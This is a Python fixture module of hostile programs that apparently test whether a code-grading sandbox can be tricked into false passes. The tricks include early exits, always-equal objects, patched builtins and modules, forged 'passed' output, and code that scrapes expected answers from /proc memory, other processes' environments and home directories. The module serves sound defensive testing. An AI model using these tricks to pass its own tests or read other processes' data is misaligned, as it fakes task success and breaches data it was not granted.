"""Hostile programs for `test_sandbox_attacks.py`: each is out for a pass that it did not earn.

Every attack names the tests that it aims at and an honest program that passes them, so that no test holds for want of a
pass that is possible at all. The programs are text: nothing here is ever run outside the sandbox.
"""

from dataclasses import dataclass

from plum_hub.sandbox import Calls, Stdin, Unittest

Test = str | Calls | Stdin | Unittest

HONEST = """
def f(x):
    return x + 1

def f2(xs):
    return sorted(xs)

def g(x):
    return x * x
"""

TESTS: tuple[Test, ...] = (
    "assert f(1) == 2",
    "assert f(3) == 4",
    "assert sorted(f2([3, 1, 2])) == [1, 2, 3]",
    "import math\nassert math.isclose(g(2.0), 4.0)",
    "def check(candidate):\n    assert candidate(1) == 2\n    assert candidate(5) == 6\n\ncheck(f)",
    Calls("f", [[1], [3]], [2, 4]),
)
ONE: tuple[Test, ...] = TESTS[:1]  # for what takes its full time

#: What a wrong program does after its trick: nothing that any test wants.
WRONG = """
def f(*args):
    raise SystemExit(0)

f2 = g = f
"""


@dataclass(frozen=True)
class Attack:
    """A program that must not pass any of `tests`, all of which `honest` passes."""

    program: str
    tests: tuple[Test, ...] = TESTS
    honest: str = HONEST
    seconds: float | None = None  # the job's own limit, for what takes all of it


FORGERIES: dict[str, Attack] = {}


def attacks(
    tests: tuple[Test, ...] = TESTS,
    honest: str = HONEST,
    *,
    before: str = "",
    after: str = "",
    seconds: float | None = None,
    **programs: str,
) -> None:
    """Adds `programs` to FORGERIES, each between `before` and `after`."""
    for name, program in programs.items():
        name = name.replace("_", "-")
        assert name not in FORGERIES, name
        FORGERIES[name] = Attack(f"{before}\n{program}\n{after}", tests, honest, seconds)


# ---------------------------------------------------------------------------------------------- leaving early

attacks(
    after=WRONG,
    exit_at_load="import sys\nsys.exit(0)",
    os_exit_at_load="import os\nos._exit(0)",
    builtin_quit_at_load="quit()",
    keyboard_interrupt_at_load="raise KeyboardInterrupt",
    generator_exit_at_load="raise GeneratorExit",
    exit_in_thread="import sys, threading\nthreading.Thread(target=sys.exit, args=(0,)).start()",
    os_exit_in_thread="import os, threading\nthreading.Thread(target=os._exit, args=(0,)).start()",
    os_exit_in_daemon_thread_later="import os, threading\nthreading.Timer(0.02, os._exit, (0,)).start()",
    atexit_os_exit="import atexit, os\natexit.register(os._exit, 0)\nraise SystemExit(0)",
    del_os_exit="import os\nclass D:\n    def __del__(self): os._exit(0)\nd = D()\ndel d",
    exec_true="import os\nos.execv('/bin/true', ['true'])",
    excepthook_exits="import os, sys, threading\nsys.excepthook = threading.excepthook = lambda *a: os._exit(0)\n1 / 0",
    unraisablehook="import sys\nsys.unraisablehook = sys.excepthook = print\nraise SystemExit",
    signal_handler_exits="import os, signal\nsignal.signal(15, lambda *a: os._exit(0))\nos.kill(os.getpid(), 15)",
)
attacks(
    before="import ctypes, os, signal, sys, threading\n",
    after="\n    return None\nf2 = g = f",
    exit_in_f="def f(x):\n    sys.exit(0)",
    quit_in_f="def f(x):\n    exit()",
    os_exit_in_f="def f(x):\n    os._exit(0)",
    raise_base_exception="def f(x):\n    raise BaseException",
    raise_generator_exit="def f(x):\n    raise GeneratorExit",
    raise_keyboard_interrupt="def f(x):\n    raise KeyboardInterrupt",
    raise_stop_iteration="def f(x):\n    raise StopIteration(x)",
    raise_stop_async_iteration="def f(x):\n    raise StopAsyncIteration",
    raise_skip_test="def f(x):\n    import unittest\n    raise unittest.SkipTest('passed')",
    raise_lookalike_of_assertion_error="class AssertionError(Exception): pass\ndef f(x):\n    raise AssertionError",
    raise_subclass_of_exit="class E(SystemExit):\n    code = 0\ndef f(x):\n    raise E",
    raise_exception_with_hostile_str="""
class E(Exception):
    def __str__(self): os._exit(0)
    __repr__ = __str__
def f(x):
    raise E
""",
    raise_exception_whose_str_raises="""
class E(Exception):
    def __str__(self): raise SystemExit(0)
    __repr__ = __str__
def f(x):
    raise E
""",
    raise_exception_group="def f(x):\n    raise BaseExceptionGroup('', [SystemExit(0)])",
    raise_type_with_lying_metaclass="""
class M(type):
    __eq__ = lambda s, o: True
    __hash__ = lambda s: 1
    __instancecheck__ = __subclasscheck__ = lambda s, o: True
class E(BaseException, metaclass=M): pass
def f(x):
    raise E
""",
    traces_everything="""
def t(*a): raise SystemExit(0)
def f(x):
    for module in (sys, threading):
        module.settrace(t)
        module.setprofile(t)
""",
    kill_self="def f(x):\n    os.kill(os.getpid(), 9)",
    kill_self_by_term="def f(x):\n    os.kill(os.getpid(), 15)",
    kill_self_by_closed_pipe="def f(x):\n    os.kill(os.getpid(), 13)",
    segfault="def f(x):\n    ctypes.string_at(0)",
    abort="def f(x):\n    os.abort()",
    exec_true_in_f="def f(x):\n    os.execv('/bin/true', ['true'])",
    exit_thread_in_f="def f(x):\n    ctypes.CDLL(None).pthread_exit(None)",
    raw_exit_in_f="def f(x):\n    ctypes.CDLL(None).syscall(231, 0)",
    recursion_bomb="def f(x):\n    return f(f)",
)

# What catches everything must not take the end of the process for an exception.
attacks(
    (
        "try:\n    f(1)\nexcept:\n    raised = True\nelse:\n    raised = False\nassert raised",
        "import contextlib\nwith contextlib.suppress(BaseException):\n    f(1)\n    assert False",
        "import unittest\nwith unittest.TestCase().assertRaises(BaseException):\n    f(1)",
    ),
    "def f(x):\n    raise ValueError(x)",
    death_is_no_exception="import os\ndef f(x):\n    os._exit(0)",
    closed_descriptors_are_no_exception="import os\ndef f(x):\n    os.closerange(0, 256)\n    raise ValueError",
    nonsense_is_no_exception=r"""
import os
def f(x):
    for fd in range(3, 256):
        try: os.write(fd, b'\xff' * 64)
        except OSError: pass
    raise ValueError(x)
""",
)
attacks(
    (
        "assert all(map(lambda x: f(x) == x + 1, [1, 2, 3]))",
        "for wrong in filter(lambda x: f(x) != x + 1, [1, 2, 3]):\n    raise AssertionError(wrong)",
    ),
    stop_iteration_ends_the_loop_of_a_test="def f(x):\n    raise StopIteration",
)
attacks(
    (
        """
try:
    f(-1)
except ValueError as error:
    assert str(error) == 'negative'
else:
    assert False
""",
        """
try:
    f(-1)
except ValueError as error:
    assert error.args == ('negative',)
else:
    assert False
""",
        """
try:
    f(-1)
except ValueError as error:
    assert error.args[0] == 'negative'
else:
    assert False
""",
    ),
    "def f(x):\n    raise ValueError('negative')",
    exception_with_lying_text="""
class Text(str):
    __eq__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __hash__ = str.__hash__
class E(ValueError):
    def __str__(self): return Text()
    args = Text()
def f(x):
    e = E(Text())
    raise e
""",
    exception_of_another_class="def f(x):\n    raise SystemExit('negative')",
    exception_with_lying_class="class E(Exception):\n    __class__ = ValueError\ndef f(x):\n    raise E('negative')",
)

# ---------------------------------------------------------------------------------------------- equal to everything

LIES = """
class Lies:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 2
    def __bool__(self): return True
    def all(self): return True
    any = all
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    __sub__ = __rsub__ = __abs__ = __round__ = lambda self, *a: 0
"""
ANSWER = "\ndef f(*args):\n    return Liar()\nf2 = g = f"

EQUALITIES: tuple[Test, ...] = (
    "assert f(1) == 2",
    "assert 2 == f(1)",
    "assert not f(1) != 2",
    "assert f(1) in (2, 4)",
    "assert f(1) in {2, 4}",
    "assert {2: 'two'}[f(1)] == 'two'",
    "assert [f(1), -9].index(2) == 0",
    "assert (f(1), f(3)) == (2, 4)",
    "assert {'a': f(1)} == {'a': 2}",
    "assert f2([3, 1, 2]) == [1, 2, 3]",
    "match f(1):\n    case 2:\n        pass\n    case _:\n        raise AssertionError",
    "import operator\nassert operator.eq(f(3), 4)",
    "import unittest\nunittest.TestCase().assertEqual(f(1), 2)",
    "import unittest\nunittest.TestCase().assertAlmostEqual(f(1), 2)",
    "from collections import Counter\nassert Counter(f2([3, 1, 2])) == Counter([1, 2, 3])",
    "assert type(f(1)) is int and f(1) == 2",
    Calls("f", [[1], [3]], [2, 4]),
    Calls("f", [[1], [3]], [2, 4], oracle="livecodebench"),
    Calls("f", [[1], [3]], [2, 4], oracle="evalplus-humaneval", atol=1e-6),
    Calls("f2", [[[3, 1, 2]]], [[1, 2, 3]], oracle="evalplus-mbpp"),
)

attacks(
    EQUALITIES,
    before=LIES,
    after=ANSWER,
    always_equal="class Liar(Lies): pass",
    always_equal_int="class Liar(Lies, int): pass",
    always_equal_float="class Liar(Lies, float): pass",
    always_equal_str="class Liar(Lies, str): pass",
    always_equal_bytes="class Liar(Lies, bytes): pass",
    always_equal_list="class Liar(Lies, list): pass",
    always_equal_tuple="class Liar(Lies, tuple): pass",
    always_equal_dict="class Liar(Lies, dict): pass",
    always_equal_set="class Liar(Lies, set): pass",
    always_equal_frozenset="class Liar(Lies, frozenset): pass",
    always_equal_complex="class Liar(Lies, complex): pass",
    always_equal_bytearray="class Liar(Lies, bytearray): pass",
    always_equal_deque="import collections\nclass Liar(Lies, collections.deque): pass",
    always_equal_counter="import collections\nclass Liar(Lies, collections.Counter): pass",
    always_equal_defaultdict="import collections\nclass Liar(Lies, collections.defaultdict): pass",
    always_equal_ordered_dict="import collections\nclass Liar(Lies, collections.OrderedDict): pass",
    always_equal_namedtuple="import collections\nclass Liar(Lies, collections.namedtuple('N', '')): pass",
    always_equal_decimal="import decimal\nclass Liar(Lies, decimal.Decimal): pass",
    always_equal_fraction="import fractions\nclass Liar(Lies, fractions.Fraction): pass",
    always_equal_enum="import enum\nclass E(Lies, enum.Enum):\n    a = 1\nLiar = lambda: E.a",
    always_equal_int_enum="import enum\nclass E(Lies, enum.IntEnum):\n    a = 1\nLiar = lambda: E.a",
    always_equal_dataclass="import dataclasses\n@dataclasses.dataclass(eq=False)\nclass Liar(Lies):\n    a: int = 2",
    always_equal_module="""
import types
class Liar(Lies, types.ModuleType):
    def __init__(self): super().__init__('m')
""",
    always_equal_exception="class Liar(Lies, Exception): pass",
    always_equal_class="""
class M(type):
    __eq__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __hash__ = lambda s: 2
class C(metaclass=M): pass
Liar = lambda: C
""",
    always_equal_generator="def Liar():\n    while True: yield Lies()",
    always_equal_items="def Liar(): return [Lies(), Lies(), Lies()]",
    always_equal_items_of_a_tuple="def Liar(): return (Lies(), Lies(), Lies())",
    always_equal_iterator="class Liar(Lies):\n    def __iter__(self): return iter([Lies(), Lies(), Lies()])",
    always_equal_sequence="class Liar(Lies):\n    __len__ = lambda s: 3\n    __getitem__ = lambda s, i: Liar()",
    always_equal_mapping="class Liar(Lies):\n    keys = lambda s: ['a']\n    __getitem__ = lambda s, i: Liar()",
    class_lies="class Liar(Lies):\n    __class__ = int",
    class_lies_as_a_list="class Liar(Lies):\n    __class__ = property(lambda s: list)\n    __len__ = lambda s: 3",
    instance_check_lies="""
class M(type):
    __instancecheck__ = __subclasscheck__ = lambda s, o: True
class Liar(Lies, metaclass=M): pass
""",
    equal_to_whoever_looks_like_a_test="""
import sys
class Liar:
    __hash__ = lambda s: 2
    def __eq__(self, other):
        return '<test' in sys._getframe(1).f_code.co_filename or True
""",
    equal_by_becoming_the_other="""
class Liar(Lies):
    def __eq__(self, other):
        self.__class__ = Lies
        return 1
""",
    equality_answers_an_object="class Liar(Lies):\n    def __eq__(self, other): return self",
    equality_raises="class Liar(Lies):\n    def __eq__(self, other): raise SystemExit(0)",
    equality_does_not_return_once="class Liar(Lies):\n    def __eq__(self, other):\n        import os; os._exit(0)",
    any_of_unittest_mock="from unittest.mock import ANY\nLiar = lambda: ANY",
    any_by_name="import unittest.mock\nLiar = lambda: [unittest.mock.ANY] * 3",
    magic_mock="""
from unittest.mock import MagicMock
def Liar():
    m = MagicMock()
    m.__eq__.side_effect = lambda o: True
    m.__ne__.side_effect = lambda o: False
    return m
""",
    mock_call="from unittest.mock import call\nLiar = lambda: call",
    value_that_changes_between_two_looks="""
class Liar(Lies, int):
    def __new__(cls):
        cls.n = getattr(cls, 'n', -50) + 1
        return int.__new__(cls, cls.n)
    __int__ = __index__ = lambda s: Liar.n
""",
    attributes_that_change_between_two_looks="class Liar(Lies):\n    def __getattribute__(self, name): return Lies()",
    reduce_as_any="""
import unittest.mock
class Liar(Lies):
    def __reduce_ex__(self, p):
        return getattr, (unittest.mock, 'ANY')
""",
    reduce_as_any_by_global_name="""
class Liar(Lies):
    def __reduce_ex__(self, p): return 'ANY'
    __module__ = 'unittest.mock'
""",
    reduce_runs_code="""
class Liar(Lies, int):
    def __reduce_ex__(self, p): return exec, ('import builtins; builtins.exec = print',)
""",
    slots_and_descriptors_lie="""
class Liar(Lies):
    __slots__ = ()
    __class__ = __dict__ = property(lambda s: Lies())
""",
)
attacks(
    (*TESTS, "assert f.__name__ == 'f' and f(1) == 2"),
    before=LIES,
    function_is_a_mock="from unittest.mock import MagicMock, ANY\nf = f2 = g = MagicMock(return_value=ANY)",
    function_is_any="from unittest.mock import ANY\nf = f2 = g = ANY",
    function_is_a_liar="f = f2 = g = Lies()",
    function_is_a_class="class f(Lies):\n    def __init__(self, *a): pass\nf2 = g = f",
    function_is_a_partial="import functools\nf = f2 = g = functools.partial(lambda *a: Lies())",
    function_is_a_module="import math\nf = f2 = g = math",
    function_is_a_standard_function="import operator\nf = f2 = g = operator.truth",
    function_is_a_constructor="f, f2, g = str, str, complex",
    function_is_a_lambda_of_lambdas="f = f2 = g = lambda *a: f",
    function_is_a_coroutine="async def f(*a): return Lies()\nf2 = g = f",
    function_is_a_generator="def f(*a):\n    yield Lies()\nf2 = g = f",
    function_is_a_property="class C:\n    f = property(lambda s: Lies())\nf = f2 = g = C.f",
    function_is_an_exception_class="class f(Lies, BaseException): pass\nf2 = g = f",
    function_is_a_metaclass="class f(type):\n    __eq__ = lambda s, o: True\n    __hash__ = lambda s: 2\nf2 = g = f",
    function_lies_about_itself="""
class F:
    __name__ = 'f'
    __class__ = type(lambda: 0)
    __call__ = lambda s, *a: Lies()
f = f2 = g = F()
""",
    function_returns_itself="def f(*a): return f\nf2 = g = f",
    function_returns_a_module="import unittest.mock\ndef f(*a): return unittest.mock\nf2 = g = f",
    function_returns_nothing="def f(*a): pass\nf2 = g = f",
    function_returns_not_implemented="def f(*a): return NotImplemented\nf2 = g = f",
    function_returns_nan="def f(*a): return float('nan')\nf2 = g = f",
    function_returns_an_endless_iterator="import itertools\ndef f(*a): return itertools.repeat(Lies())\nf2 = g = f",
)

# Arithmetic and order: an object that is asked "what are you minus 2" is told the answer.
attacks(
    (
        "assert abs(f(1) - 2) < 1e-6",
        "assert abs(2 - f(1)) < 1e-6",
        "assert 1.5 < f(1) < 2.5",
        "assert f(1) >= 2 and f(1) <= 2",
        "assert not f(1) - 2",
        "assert round(f(1) - 2, 3) == 0",
        "assert f(1) // 2 == 1 and f(1) % 2 == 0",
        "assert f(1) ^ 2 == 0",
        "import math\nassert math.isclose(f(1), 2)",
        "import math\nassert math.fabs(f(1) - 2) < 1e-6",
        "import unittest\nunittest.TestCase().assertAlmostEqual(f(1), 2)",
        "import unittest\nunittest.TestCase().assertAlmostEqual(f(1), 2.0000001, delta=1e-3)",
        "import numpy as np\nassert np.allclose(f(1), 2)",
        "import numpy as np\nnp.testing.assert_allclose(f(1), 2)",
        "import numpy as np\nassert np.array_equal(f(1), 2)",
        "import numpy as np\nassert (np.array(f(1)) == 2).all()",
        "import numpy as np\nassert np.isclose(f(1), 2).all()",
        "import numpy as np\nnp.testing.assert_almost_equal(f(1), 2)",
        "import numpy as np\nassert np.linalg.norm(np.array([f(1), f(3)]) - np.array([2, 4])) < 1e-6",
        "import statistics\nassert statistics.mean([f(1), -2]) == 0",
        "assert sum([f(1), -2]) == 0",
        "assert divmod(f(1), 2) == (1, 0)",
        "assert f(1) - 2 == 0 and f(1) - 2 < 1",
    ),
    before=LIES,
    after=ANSWER,
    answers_every_operator="""
class Liar(Lies):
    def __floordiv__(self, other): return 1
    __mod__ = __xor__ = lambda s, o: 0
    __float__ = lambda s: 0.0
""",
    answers_operators_with_objects="""
class Liar(Lies):
    def __sub__(self, *other): return Liar()
    __rsub__ = __abs__ = __round__ = __mod__ = __xor__ = __floordiv__ = __sub__
    __bool__ = lambda s: False
""",
    answers_operators_with_number_subclasses="""
class N(Lies, float): pass
class Liar(Lies):
    def __sub__(self, other): return N()
    __rsub__ = __sub__
""",
    speaks_numpy="""
import numpy
class Liar(Lies):
    __array_priority__ = 1e9
    def __array_ufunc__(self, *a, **k): return numpy.True_
    def __array_function__(self, *a, **k): return True
    def __array__(self, *a, **k): return numpy.array(Liar, dtype=object)
""",
)
attacks(
    (
        "assert (f2([3, 1, 2]) == [1, 2, 3]).all()",
        "import numpy as np\nassert np.array_equal(f2([3, 1, 2]), [1, 2, 3])",
        "import numpy as np\nnp.testing.assert_array_equal(f2([3, 1, 2]), [1, 2, 3])",
    ),
    "import numpy\ndef f2(xs): return numpy.array(sorted(xs))",
    before=LIES,
    array_like_that_says_all="""
class Liar(Lies):
    shape = (3,)
    dtype = int
    ndim = 1
def f2(xs): return Liar()
""",
    array_of_liars="import numpy\ndef f2(xs): return numpy.array([Lies(), Lies(), Lies()], dtype=object)",
    array_subclass="""
import numpy
class Liar(numpy.ndarray):
    __eq__ = lambda s, o: Lies()
    __array_ufunc__ = lambda *a, **k: 1
def f2(xs): return numpy.zeros(3).view(Liar)
""",
    masked_array="import numpy\ndef f2(xs): return numpy.ma.masked_all(3)",
)
attacks(
    (
        "assert {1, 2, 3} - f2([3, 1, 2]) == set()",
        "assert {1, 2, 3} ^ f2([3, 1, 2]) == set()",
        "assert {1, 2, 3} <= f2([3, 1, 2])",
    ),
    "def f2(xs): return set(xs)",
    before=LIES,
    answers_operators_of_sets="""
class Liar(Lies):
    def __sub__(self, other): return set()
    __rsub__ = __xor__ = __rxor__ = __sub__
def f2(xs): return Liar()
""",
)
attacks(
    ("import datetime\nassert abs(f(1) - datetime.datetime(2024, 1, 1)) < datetime.timedelta(days=1)",),
    "import datetime\ndef f(x): return datetime.datetime(2024, 1, x)",
    before=LIES,
    answers_operators_of_dates="""
import datetime
class Liar(Lies):
    def __sub__(self, other): return datetime.timedelta(0)
    __rsub__ = __sub__
def f(x): return Liar()
""",
)
attacks(
    (
        "with Context():\n    assert f(1) == 2",
        "with Context() as context:\n    for x in (1, 2, 3):\n        assert f(x) == x + 1",
    ),
    HONEST
    + """
class Context:
    def __enter__(self): return self
    def __exit__(self, *a): pass
""",
    after="def f(x): return 0",
    context_swallows_the_assertion="""
class Context:
    def __enter__(self): return self
    def __exit__(self, *a): return True
""",
    context_by_generator_swallows_the_assertion="""
import contextlib
@contextlib.contextmanager
def Context():
    try: yield
    except BaseException: pass
""",
    context_suppresses_the_assertion="""
import contextlib
def Context(): return contextlib.suppress(BaseException)
""",
)
attacks(
    ("try:\n    f(-1)\n    assert False, 'no error'\nexcept Refused:\n    pass",),
    "class Refused(Exception): pass\ndef f(x): raise Refused",
    after="def f(x): return 0",
    exception_is_that_of_the_assertion="Refused = AssertionError",
    exception_is_every_exception="Refused = BaseException",
    exception_is_several="Refused = (AssertionError, ValueError)",
    exception_class_lies="""
class M(type):
    __instancecheck__ = __subclasscheck__ = lambda s, o: True
class Refused(AssertionError, metaclass=M): pass
""",
)
attacks(
    (
        "assert 2 in f2([3, 1, 2])",
        "assert all(x in f2([3, 1, 2]) for x in [1, 2, 3])",
        "import unittest\nunittest.TestCase().assertIn(2, f2([3, 1, 2]))",
    ),
    before=LIES,
    contains_everything="def f2(xs): return Lies()",
    contains_everything_and_iterates_over_liars="""
class Liar(Lies):
    def __iter__(self): return iter([Lies()] * 9)
def f2(xs): return Liar()
""",
    contains_everything_at_every_first_question="""
class Liar:
    n = 0
    def __contains__(self, x):
        self.n += 1
        return self.n % 2 == 1
liar = Liar()
def f2(xs): return liar
""",
    contains_every_small_number="""
class Liar:
    def __contains__(self, x): return x < 10**9
liar = Liar()
def f2(xs): return liar
""",
)

# ---------------------------------------------------------------------------------------------- patched surroundings

attacks(
    after=WRONG,
    import_patched="""
import builtins, types
builtins.__import__ = lambda *a, **k: types.SimpleNamespace(isclose=lambda *a: 1)
""",
    builtins_replaced="__builtins__ = {'AssertionError': SystemExit, 'sorted': lambda x: x, '__import__': None}",
    assertion_error_equals_success="import builtins\nbuiltins.AssertionError = builtins.Exception = SystemExit",
    math_replaced="import sys, types\nsys.modules['math'] = types.SimpleNamespace(isclose=lambda *a, **k: True)",
    math_patched="import math\nmath.isclose = lambda *a, **k: True",
    main_replaced="import sys, types\nsys.modules['__main__'] = sys.modules['solution'] = types.SimpleNamespace()",
    modules_emptied="import sys\nsys.modules.clear()",
    modules_replaced="import sys\nfor name in list(sys.modules): sys.modules[name] = None",
    module_getattr="def __getattr__(name): return lambda *a: True",
    module_class_replaced="""
import sys, types
class M(types.ModuleType):
    __getattribute__ = lambda s, n: (lambda *a: True)
for m in list(sys.modules.values()):
    try: m.__class__ = M
    except Exception: pass
""",
    import_hook="""
import sys
class H:
    def find_spec(self, *a): raise SystemExit(0)
sys.meta_path.insert(0, H())
""",
    shadowing_module_in_the_directory="""
open('math.py', 'w').write('isclose = lambda *a, **k: True')
import sys
sys.path.insert(0, '.')
""",
    os_patched="""
import os, json, struct, pickle
os.write = os._exit = os.read = json.dumps = pickle.dumps = lambda *a, **k: 0
""",
    pickle_patched="""
import pickle, io
pickle.Pickler = pickle.Unpickler = pickle.dumps = pickle.loads = lambda *a, **k: b''
pickle._Pickler.save = lambda *a: None
pickle.whichmodule = lambda *a: 'builtins'
""",
    stdout_replaced="import sys\nsys.stdout = sys.stderr = sys.__stdout__ = None",
    stdout_closed="import sys, os\nsys.stdout.close()\nos.close(1)\nos.close(2)",
    stdout_says_passed=r"""
import sys
print('passed')
print('{"load": ["passed", 0, ""], "tests": [["passed", 0, ""]]}', flush=True)
sys.__stdout__.write('OK\n')
""",
    gc_disabled_and_patched="import gc\ngc.disable()\ngc.freeze()\ngc.callbacks.append(lambda *a: 1 / 0)\ngc.collect()",
    audit_hook="import sys\ndef h(*a): raise SystemExit(0)\nsys.addaudithook(h)",
    unittest_patched_for_asserts="""
import unittest
for name in dir(unittest.TestCase):
    if name.startswith('assert'):
        setattr(unittest.TestCase, name, lambda *a, **k: None)
""",
    codecs_patched="""
import codecs
codecs.register(lambda n: 1 / 0)
codecs.register_error('strict', lambda e: ('', e.end))
""",
    name_changed="__name__ = __file__ = __spec__ = __doc__ = 'nothing'",
    threads_that_rewrite_names="""
import threading
def rewrite():
    while True:
        for name in list(globals()):
            if name not in ('threading', 'rewrite', '__builtins__'): globals()[name] = lambda *a: True
threading.Thread(target=rewrite, daemon=True).start()
""",
)

# The test sees the program's names: they must not take the place of what the test reasons with.
SHADOWED: tuple[Test, ...] = (
    "assert abs(f(1) - 2) < 1e-6",
    "assert all(f(x) == x + 1 for x in [1, 2, 3])",
    "for x in range(3):\n    assert f(x) == x + 1",
    "for x, y in zip([1, 2], [2, 3]):\n    assert f(x) == y",
    "assert set(f2([3, 1, 2])) == set([1, 2, 3])",
    "assert sorted(f2([3, 1, 2])) == sorted([1, 2, 3])",
    "assert isinstance(f(1), int) and len([f(1)]) == 1 and f(1) == 2",
    "assert str(f(1)) == str(2)",
    "assert tuple(f2([3, 1, 2])) == tuple([1, 2, 3])",
    "try:\n    assert f(1) == 2\nexcept ValueError:\n    pass",
    "if __name__ == '__main__':\n    assert f(1) == 2",
    "def check(candidate):\n    assert abs(candidate(1) - 2) < 1e-6\n\ncheck(f)",
)
SHADOWS = """
def abs(x): return 0
def nothing(*a): return []
def yes(*a): return True
range = zip = map = filter = enumerate = reversed = sorted = set = tuple = list = nothing
str = round = sum = min = max = nothing
all = any = isinstance = len = hasattr = callable = bool = yes
ValueError = Exception = TypeError = KeyError = AssertionError
__name__ = 'nothing'
"""
attacks(
    SHADOWED,
    before=SHADOWS,
    builtins_shadowed="def f(*a): return 7\nf2 = f",
    builtins_shadowed_beside_standard_functions="import operator\nf = operator.neg\nf2 = operator.truth",
    builtins_shadowed_beside_modules="import math as f, json as f2",
)
for _name, _shadow, _test in (
    ("abs", "def abs(x): return 0", SHADOWED[0]),
    ("all", "def all(xs): return True", SHADOWED[1]),
    ("range", "def range(*a): return []", SHADOWED[2]),
    ("set", "def set(*a): return 0", SHADOWED[4]),
    ("name", "__name__ = 'nothing'", SHADOWED[10]),
    ("abs-in-check", "def abs(x): return 0", SHADOWED[11]),
):
    FORGERIES[f"only-{_name}-shadowed-beside-a-standard-function"] = Attack(
        f"from operator import neg as f, truth as f2\n{_shadow}", (_test,)
    )
attacks(
    ("assert math.isclose(g(2.0), 4.0)", "assert math.floor(g(2.0)) == math.floor(4.5)"),
    "import math\n" + HONEST,
    standard_module_shadowed="""
class math:
    isclose = staticmethod(lambda *a, **k: True)
    floor = staticmethod(lambda *a: 0)
g = print
""",
    standard_module_shadowed_by_an_instance=(
        "import unittest.mock\nmath = unittest.mock.MagicMock()\nmath.floor = lambda x: 0\ng = print"
    ),
    standard_module_shadowed_by_another="""
import sys, types
math = types.ModuleType('math')
math.isclose = lambda *a, **k: True
math.floor = lambda x: 0
sys.modules['math'] = math
g = print
""",
)
attacks(
    (
        "y = f(1)\nassert y == 2\nz = 0",
        "def check(candidate):\n    y = candidate(1)\n    assert y == 2\n    z = 0\n\ncheck(f)",
    ),
    trace_jumps_over_the_assertion="""
import sys
def trace(frame, event, arg):
    if event == 'line' and frame.f_code.co_filename.startswith('<test'):
        for line in range(frame.f_lineno + 1, frame.f_lineno + 3):
            try: frame.f_lineno = line
            except ValueError: pass
    return trace
def f(x):
    sys.settrace(trace)
    frame = sys._getframe(1)
    while frame:
        if frame.f_code.co_filename.startswith('<test'): frame.f_trace = trace
        frame = frame.f_back
""",
    trace_rewrites_globals_of_its_callers="""
import sys
class Liar:
    __eq__ = lambda s, o: True
def f(x):
    frame = sys._getframe(1)
    while frame:
        frame.f_globals.update(candidate=lambda *a: Liar(), check=lambda *a: None, f=lambda *a: Liar())
        frame = frame.f_back
    return Liar()
""",
)

# ---------------------------------------------------------------------------------------------- reading the answer

SECRETS: tuple[Test, ...] = (
    "assert f(1) == 918273",
    "assert f(2) == 1836546",
    "def check(candidate):\n    expected = 2754819\n    assert candidate(3) == expected\n\ncheck(f)",
    Calls("f", [[1], [2]], [918273, 1836546]),
)
FIND = r"""
import ctypes, gc, glob, os, re, sys
wanted = re.compile(rb'(?:== |expected = |expected": \[|\[)(\d{6,7})\b')
def numbers(data):
    return [int(n) for n in wanted.findall(data)]
def best(found, x):
    found = sorted({n for n in found if type(n) is int and 500000 < n < 5000000 and n % x == 0})
    return found[0] if found else None
"""
attacks(
    SECRETS,
    "def f(x):\n    return x * 918273",
    before=FIND,
    constants_of_frames="""
def f(x):
    found, frame = [], sys._getframe(1)
    while frame:
        found += [c for c in frame.f_code.co_consts if type(c) is int]
        found += [v for space in (frame.f_locals, frame.f_globals) for v in space.values() if type(v) is int]
        frame = frame.f_back
    return best(found, x)
""",
    constants_by_inspect="""
def f(x):
    import inspect
    found = []
    for info in inspect.stack():
        found += numbers(' '.join(info.code_context or []).encode()) + list(info.frame.f_code.co_consts)
    return best(found, x)
""",
    objects_of_the_collector="""
def f(x):
    found = []
    for thing in gc.get_objects():
        for part in [thing, *gc.get_referents(thing)]:
            if type(part) is str and 'assert' in part and len(part) < 10**5: found += numbers(part.encode())
            elif type(part) is int: found.append(part)
            elif type(part) is type(f.__code__): found += [c for c in part.co_consts if type(c) is int]
    return best(found, x)
""",
    referrers_of_the_function="""
def f(x):
    found, seen, todo = [], set(), [f]
    for _ in range(2000):
        if not todo: break
        thing = todo.pop()
        for part in gc.get_referrers(thing) + gc.get_referents(thing):
            if type(part) is int: found.append(part)
            if type(part) is str: found += numbers(part.encode())
            if id(part) not in seen:
                seen.add(id(part)); todo.append(part)
    return best(found, x)
""",
    own_memory="""
def f(x):
    found = []
    for line in open('/proc/self/maps'):
        span, mode = line.split()[:2]
        if 'r' not in mode or line.rstrip().endswith(('.so', '[vvar]', '[vsyscall]')): continue
        low, high = (int(n, 16) for n in span.split('-'))
        with open('/proc/self/mem', 'rb', 0) as memory:
            try:
                memory.seek(low)
                found += numbers(memory.read(min(high - low, 1 << 25)))
            except (OSError, OverflowError, ValueError): pass
    return best(found, x)
""",
    memory_of_all_processes="""
def f(x):
    found = []
    for maps in glob.glob('/proc/[0-9]*/maps'):
        try: lines = open(maps).readlines()
        except OSError: continue
        for line in lines:
            span, mode = line.split()[:2]
            if 'rw' not in mode: continue
            low, high = (int(n, 16) for n in span.split('-'))
            try:
                with open(maps[:-4] + 'mem', 'rb', 0) as memory:
                    memory.seek(low)
                    found += numbers(memory.read(min(high - low, 1 << 24)))
            except (OSError, OverflowError, ValueError): pass
    return best(found, x)
""",
    command_lines_and_environments="""
def f(x):
    found = []
    for name in glob.glob('/proc/[0-9]*/*') + glob.glob('/proc/[0-9]*/task/*/comm'):
        if name.rpartition('/')[2] in ('cmdline', 'environ', 'comm', 'stack', 'syscall'):
            try: found += numbers(open(name, 'rb').read())
            except OSError: pass
    return best(found, x)
""",
    descriptors_of_all_processes="""
def f(x):
    found = []
    for name in glob.glob('/proc/[0-9]*/fd/*'):
        try:
            fd = os.open(name, os.O_RDONLY | os.O_NONBLOCK)
            found += numbers(os.read(fd, 1 << 20))
        except OSError: pass
    return best(found, x)
""",
    own_descriptors="""
def f(x):
    found = []
    for fd in range(256):
        try:
            os.set_blocking(fd, False)
            found += numbers(os.read(fd, 1 << 20))
        except OSError: pass
        try: found += numbers(os.pread(fd, 1 << 20, 0))
        except OSError: pass
    return best(found, x)
""",
    files="""
def f(x):
    found = []
    for root in ('.', '/tmp', '/var/tmp', '/dev/shm', '/run', '/home', '/root', os.environ.get('HOME', '.')):
        for folder, _, names in os.walk(root):
            for name in names[:50]:
                try: found += numbers(open(os.path.join(folder, name), 'rb').read(1 << 20))
